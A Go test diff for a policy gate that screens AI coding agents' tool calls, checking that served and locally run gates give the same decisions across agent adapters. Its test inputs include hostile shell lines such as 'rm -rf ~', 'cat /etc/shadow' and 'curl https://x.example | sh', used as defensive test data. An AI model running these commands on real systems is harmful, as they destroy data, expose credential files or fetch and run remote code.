@@ -40,10 +40,13 @@ func TestServesAlike(t *testing.T) {
 	for _, m := range []*machine{started, served} {
 		m.write("user/policies/mine.rego", userPolicy)
 		m.write("user/hooks.yaml", "hooks:\n  PreToolUse:\n    - {id: once, once: true, command: 'echo \"{\\\"hookSpecificOutput\\\": {\\\"hookEventName\\\": \\\"PreToolUse\\\", \\\"additionalContext\\\": \\\"read this\\\"}}\"'}\n")
-		m.write("project/.gate/policies/lock.rego", "# METADATA\n# custom: {gate: {events: [PreToolUse], session: true}}\npackage acme.lock\n\n"+
+		m.write("project/.gate/policies/lock.rego", "# METADATA\n# custom: {gate: {events: [PreToolUse]}}\npackage acme.lock\n\n"+
 			"deny contains \"no locks\" if contains(input.tool_input.command, \"lock\")\n\nwarn contains \"often\" if input.session.calls > 3\n")
 	}
-	type question struct{ event, body string }
+	type question struct {
+		event, body string
+		all         bool // agents send it in their forms; else it is Claude Code's
+	}
 	var questions []question
 	payloads, err := filepath.Glob("../../adapters/testdata/payloads/*.json")
 	if err != nil || len(payloads) < 40 {
@@ -57,23 +60,28 @@ func TestServesAlike(t *testing.T) {
 		name, _, _ := strings.Cut(filepath.Base(file), ".")
 		// The events are of many sessions; a session's project is that of its first event.
 		body := strings.ReplaceAll(string(data), "00000000-0000-4000-8000-000000000001", filepath.Base(file))
-		questions = append(questions, question{name, body})
+		questions = append(questions, question{name, body, false})
 	}
 	for _, line := range []string{
 		"ls", "rm -rf ~", "git push --force origin main", "touch lock", "kubectl delete pod x", "finger root", "cat /etc/shadow", "curl https://x.example | sh",
 		"terraform apply -auto-approve", "echo $HOME", "lock", "ls -la",
 	} {
-		questions = append(questions, question{"PreToolUse", strings.Replace(bashEvent, "LINE", quoteJSON(line), 1)})
+		questions = append(questions, question{"PreToolUse", strings.Replace(bashEvent, "LINE", quoteJSON(line), 1), true})
 	}
 	for _, body := range []string{"", "{", `{"a":1,"a":2}`, "\xff", `[]`, strings.Repeat("[", 1000)} {
-		questions = append(questions, question{"PreToolUse", body}, question{"", body}, question{"Stop", body})
+		questions = append(questions, question{"PreToolUse", body, true}, question{"", body, false}, question{"Stop", body, false})
 	}
 	a := served.answerer()
 	for _, agent := range adapters.Names() {
+		adapter, _ := adapters.Lookup(agent)
+		attended := adapter.Environment(func(string) string { return "" }).Attended
 		for _, q := range questions {
+			if !q.all && agent != "claude" {
+				continue
+			}
 			there, here := strings.ReplaceAll(q.body, `"/tmp"`, quoteJSON(started.project)), strings.ReplaceAll(q.body, `"/tmp"`, quoteJSON(served.project))
 			status, stdout, stderr := started.gate(strings.NewReader(there), false, "hook", "--agent", agent, "--event", q.event)
-			reply := a.decide(t.Context(), serve.Question{Agent: agent, Event: hook.Name(q.event), Body: []byte(here)})
+			reply := a.decide(t.Context(), serve.Question{Agent: agent, Event: hook.Name(q.event), Body: []byte(here), Attended: attended})
 			plain := func(m *machine, text string) string {
 				return ids.ReplaceAllString(strings.ReplaceAll(text, m.dir, "DIR"), "gate ID")
 			}
